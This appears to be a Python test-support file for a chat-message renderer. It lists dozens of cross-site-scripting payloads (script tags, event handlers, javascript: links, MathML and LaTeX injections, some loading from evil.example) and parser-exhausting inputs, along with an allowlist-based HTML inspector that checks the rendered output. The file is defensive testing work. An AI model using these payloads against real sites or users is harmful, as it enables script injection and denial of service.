"""Texts that a hostile or broken model may write, and an inspector that knows what may come out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ATTACKS = {
    "script element": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script broken over lines": "<scr\nipt>alert(1)</scr\nipt>",
    "script nested in itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image with slashes for spaces": "<img/src/onerror=alert(1)>",
    "svg with a handler": "<svg/onload=alert(1)>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "math with a link": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=a()>'>",
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "form with a button": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style element": "<style>@import '//evil.example/x.css'</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "class of ours": '<div class="composer"><button data-copies="code">x</button></div>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?>",
    "unclosed tag": '<a href="javascript:alert(1)"',
    "unclosed attribute": '<img src="x` `<script>alert(1)</script>"` `>',
    "closes what is around it": "</p></div></article></main><script>alert(1)</script>",
    "handler in a heading": "# <a onclick=alert(1)>x</a>",
    "html in a table": "|<b onmouseover=alert(1)>a</b>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "html in a code block": "```html\n<script>alert(1)</script></code></pre><img src=x onerror=alert(1)>\n```",
    "html in inline code": "`<img src=x onerror=alert(1)>`",
    "indented html": "    <script>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript link by entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript link by hexadecimal entities": "[x](&#x6A;&#x61;vascript:alert(1))",
    "javascript link with a tab": "[x](java&Tab;script:alert(1))",
    "javascript link with a new line": "[x](<java\nscript:alert(1)>)",
    "javascript link behind a control character": "[x](\x01javascript:alert(1))",
    "javascript link in angle brackets": "[x](<javascript:alert(1)>)",
    "javascript link escaped": "[x](javascript\\:alert(1))",
    "javascript link percent encoded": "[x](javascript%3Aalert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript link by definition": "[x]\n\n[x]: javascript:alert(1)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "[x](blob:https://evil.example/1)",
    "relative link": "[x](/accounts/logout/)",
    "relative links as html": '<a href="/accounts/logout/">x</a> <a href="//evil.example">y</a>',
    "link without a scheme": "[x](//evil.example)",
    "link that leaves its attribute": '[x](https://e.example/"onmouseover="alert(1))',
    "title that leaves its attribute": "[x](https://e.example '\" onmouseover=alert(1) x=\"')",
    "image that leaves its attribute": '![x" onerror="alert(1)](https://e.example/x.png)',
    "image in a link": "[![x](https://e.example/i.png)](https://e.example)",
    "link in a link": "[a [b](https://e.example) c](https://f.example)",
    "fence language with quotes": '```"><script>alert(1)</script>\ncode\n```',
    "fence language with a handler": '```x"onmouseover=alert(1)//\ncode\n```',
    "fence language with entities": "```&quot;&gt;&lt;script&gt;\ncode\n```",
    "fence language of our classes": "```hl-k code__bar\ncode\n```",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e;",
    "nul characters": "<scr\x00ipt>alert(1)</scr\x00ipt> [x](java\x00script:alert(1))",
    "lone surrogates": "\ud83d <b> \udc00",
    "bidirectional controls": "access = \u202e'resu'\u202c \u2066if\u2069 `\u202e admin`",
    "byte order mark": "\ufeff<script>alert(1)</script>",
    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "formula with a link": r"$\href{javascript:alert(1)}{x}$",
    "formula with a style": r"$\style{position:fixed;inset:0;background:url(//evil.example)}{x}$",
    "formula with a class": r"$\class{composer}{x}$",
    "formula with an id": r"$\cssId{composer}{x}$",
    "formula with a colour": r"$\color{red;background:url(//evil.example)}{x}$ $\colorbox{red}{x}$",
    "formula with markup in its text": r"$\text{<img src=x onerror=alert(1)>}$",
    "formula with markup": r"$<script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "formula with entities": r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;} &#60;script&#62;$",
    "formula that closes its element": r"$\text{</mtext></math><script>alert(1)</script>}$",
    "formula that closes its annotation": r"$x</annotation></semantics></math><img src=x onerror=alert(1)>$",
    "formula with a foreign annotation": r"$\text{<annotation-xml encoding=text/html><p title='</p>'>}$",
    "formula with a picture": r"$\includegraphics{https://evil.example/x.png}$",
    "formula of huge widths": r"$\hspace{99999em}\kern99999em\rule{99999em}{99999em}$",
    "formula on lines with markup": "$$\n<script>alert(1)</script>\n$$",
    "formula in brackets with markup": r"\[<svg/onload=alert(1)>\] \(<svg/onload=alert(1)>\)",
    "file with markup in its name": "File: <img src=x onerror=alert(1)>\n```\nx\n```",
    "file with markup in its text": "File: a.txt\n```\n</pre></details><script>alert(1)</script>\n```",
    "thoughts with markup": "<think><script>alert(1)</script></details><img src=x onerror=alert(1)></think>Fine.",
    "thoughts that are not closed": "<think></think ><script>alert(1)</script>",
    "thoughts in thoughts": "<think><think><b></think></think>",
    "very many combining marks": "a" + "\u0301" * 5000,
}

SLOW_ONES = {
    "quotes in quotes": ">" * 10_000,
    "quotes in quotes with spaces": "> " * 10_000 + "a",
    "lists in lists": "- " * 10_000 + "a",
    "lists in lists, by lines": "\n".join("  " * depth + "- a" for depth in range(400)),
    "open brackets": "[" * 10_000,
    "open and closed brackets": "[" * 10_000 + "a" + "](b)" * 10_000,
    "open images": "![" * 10_000,
    "stars": "*" * 10_000,
    "stars and letters": "*a " * 10_000,
    "stars and underscores": "*_**__" * 3_000,
    "tildes": "~~a " * 10_000,
    "backticks of every length": "".join("`" * length + "a" for length in range(200)),
    "angle brackets": "<a" * 10_000,
    "ampersands": "&a" * 10_000,
    "backslashes": "\\" * 10_000,
    "table cells": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|a" * 3_000,
    "table rows": "|a|b|\n|-|-|\n" + "|a|b|\n" * 3_000,
    "one line of a megabyte": "x" * 1_000_000,
    "one line of a megabyte in words": "word " * 200_000,
    "one line of a megabyte in a fence": "```python\n" + "x" * 1_000_000 + "\n```",
    "one open string in a fence": "```javascript\n" + "'\\" * 4_990 + "\n```",
    "a long block of code with open strings": "```javascript\n" + "'\\" * 100_000 + "\n```",
    "blank lines": "\n" * 100_000,
    "dollars": "$" * 10_000,
    "dollars and letters": "$a " * 10_000,
    "formulas": "$x^2$ " * 10_000,
    "different formulas": " ".join(f"$x_{{{n}}}$" for n in range(5_000)),
    "open formulas": "$x_{" * 5_000,
    "open brackets of formulas": "\\[" * 10_000,
    "open blocks of formulas": "$$\n" * 5_001,
    "open blocks of formulas in lists": "- $$\n" * 3_000,
    "fractions in fractions": "$" + "\\frac{" * 140 + "x" + "}" * 140 + "$ ",
    "braces in braces": ("$" + "{" * 400 + "x" + "}" * 400 + "$ ") * 50,
    "matrices": ("$\\begin{matrix}" + "a&" * 200 + "\\end{matrix}$ ") * 50,
    "formulas without an end": "\\[\n" * 33_000,
    "formulas without an end in quotes": "> \\[\n" * 20_000,
    "thoughts without an end": "<think>" + "x" * 1_000_000,
    "ends of thoughts": "<think>" + "</think" * 100_000,
}

_ATTRIBUTES = {
    "a": {"href", "target", "rel", "referrerpolicy"},
    "code": set(),
    "div": {"class"},
    "ol": {"start"},
    "p": {"class"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
    "details": {"class"},
    "math": {"display"},
    "annotation": {"encoding"},
    "mo": {"stretchy", "fence", "form", "separator", "movablelimits", "accent"},
    "mspace": {"width"},
    "mpadded": {"width"},
    "mstyle": {"displaystyle", "scriptlevel"},
    "mtable": {"displaystyle", "columnalign"},
    "mtd": {"columnalign"},
    "mi": {"mathvariant"},
    "mfrac": {"linethickness"},
}
# fmt: off
_TAGS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "details", "summary",
    "math", "semantics", "annotation", "mi", "mn", "mo", "mtext", "mspace", "mrow", "mfrac", "msqrt", "mroot", "mstyle",
    "mpadded", "mphantom", "msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd",
}
# fmt: on
_CLASS = re.compile(
    r"(code(__bar|__language)?|table|plain|math|thoughts(__text)?|file(__size)?|align-\w+|hl-\w+)( hl-\w+)*"
)
_VOID = {"br", "hr"}


class Inspector(HTMLParser):
    """Collects what is in some HTML that must not be; written without any of the renderer's code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text = ""
        self.links: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.problems.append(f"element {tag}")
        for name, value in attrs:
            if name not in _ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {tag} {name}={value!r}")
            if name == "class" and not _CLASS.fullmatch(value or ""):
                self.problems.append(f"class {value!r}")
        if tag == "a":
            self._inspect_link(dict(attrs))
        if tag not in _VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.problems.append(f"misnested {tag}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def _inspect_link(self, attrs: dict[str, str | None]) -> None:
        href = attrs.get("href")
        if href is None:
            return  # leads nowhere
        self.links.append(href)
        if not href.lower().startswith(("http://", "https://", "mailto:")):
            self.problems.append(f"link to {href!r}")
        expected = {"target": "_blank", "rel": "noopener noreferrer nofollow ugc", "referrerpolicy": "no-referrer"}
        self.problems += [
            f"link with {name}={attrs.get(name)!r}" for name, want in expected.items() if attrs.get(name) != want
        ]

    def finish(self) -> list[str]:
        self.close()
        return self.problems + [f"unclosed {tag}" for tag in self._open]


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.problems = inspector.finish()
    return inspector
